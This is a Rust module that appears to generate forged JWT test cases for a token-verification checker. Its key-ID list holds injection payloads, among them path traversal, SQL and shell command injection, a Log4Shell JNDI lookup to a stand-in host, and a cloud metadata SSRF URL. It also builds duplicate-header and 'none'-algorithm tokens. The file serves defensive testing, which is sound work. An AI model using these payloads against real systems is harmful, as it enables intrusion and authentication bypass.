//! `kid`: it chooses among the keys of the document, and nothing else.

use jsonwebtoken::Algorithm;
use serde_json::{Value, json};

use crate::attack::Attack;
use crate::documents::{SECRET, TABLE};
use crate::forge;

const INJECTION: &str = "RFC 8725 §3.10, OWASP WSTG-SESS-10: kid injection";
const DUPLICATE: &str = "RFC 7515 §4, RFC 8725 §2.4: a member twice";

/// What a `kid` must not be: a path, a query, a command, a pattern, a URL.
const IDS: [&str; 24] = [
    "../../../../../../dev/null",
    "/dev/null",
    "..\\..\\..\\windows\\win.ini",
    "/proc/sys/kernel/randomize_va_space",
    "file:///dev/null",
    "' UNION SELECT 'key' -- ",
    "x' OR '1'='1",
    "\"; DROP TABLE keys; --",
    "| cat /etc/passwd",
    "$(id)",
    "`id`",
    "{{7*7}}",
    "${jndi:ldap://evil.test/a}",
    "%00",
    "\u{0}",
    "\r\nX-Injected: 1",
    "*",
    ".*",
    "[",
    "__proto__",
    "constructor",
    "null",
    "http://169.254.169.254/latest/meta-data/",
    "\u{202e}redro thgir",
];

pub fn attacks() -> Vec<Attack> {
    let [rsa, ec] = ["RSA", "EC"].map(|kind| forge::member("jwks.json", kind, "kid"));
    let mut attacks = Vec::new();
    for id in IDS {
        let header = json!({"alg": "HS256", "kid": id}).to_string();
        for (what, secret) in [("nothing", &b""[..]), ("a zero", b"\0"), ("key", b"key")] {
            let token = forge::hmac(Algorithm::HS256, &header, secret);
            for listener in [TABLE, SECRET] {
                let name = format!("kid {id:?}, HS256 by {what}");
                attacks.push(Attack::token(name, INJECTION, &token).on(listener));
            }
        }
        let token = forge::by_key("stranger-rs256", &[("kid", id.into())]).mint();
        attacks.push(Attack::token(format!("kid {id:?}, by a stranger"), INJECTION, &token));
    }
    let near: [(&str, Value); 12] = [
        ("the kid of another key", ec.clone().into()),
        ("ours in capitals", rsa.to_uppercase().into()),
        ("ours and a space", format!("{rsa} ").into()),
        ("ours and a NUL", format!("{rsa}\u{0}").into()),
        ("the start of ours", rsa[..8].into()),
        ("both", format!("{rsa},{ec}").into()),
        ("a list with ours", json!([rsa])),
        ("an object", json!({ rsa.clone(): 1 })),
        ("a number", 7.into()),
        ("true", true.into()),
        ("ten thousand letters", "k".repeat(10_000).into()),
        ("empty", "".into()),
    ];
    for (what, id) in near {
        let token = forge::by_key("stranger-rs256", &[("kid", id)]).mint();
        attacks.push(Attack::token(format!("kid: {what}"), INJECTION, &token));
    }
    for header in [
        format!(r#"{{"alg":"RS256","kid":"stranger","kid":"{rsa}"}}"#),
        format!(r#"{{"alg":"RS256","kid":"{rsa}","kid":"stranger"}}"#),
        format!(r#"{{"alg":"RS256","kid":"{rsa}","\u006bid":"{rsa}"}}"#),
        format!(r#"{{"alg":"HS256","kid":"{rsa}","alg":"RS256"}}"#),
        format!(r#"{{"alg":"none","alg":"RS256","kid":"{rsa}"}}"#),
        format!(r#"{{"alg":"RS256","\u0061lg":"none","kid":"{rsa}"}}"#),
    ] {
        for key in ["rs256", "stranger-rs256"] {
            let mut recipe = forge::by_key(key, &[]);
            recipe.raw_header = Some(header.clone());
            attacks.push(Attack::token(format!("{header} by {key}"), DUPLICATE, &recipe.mint()));
        }
    }
    attacks
}
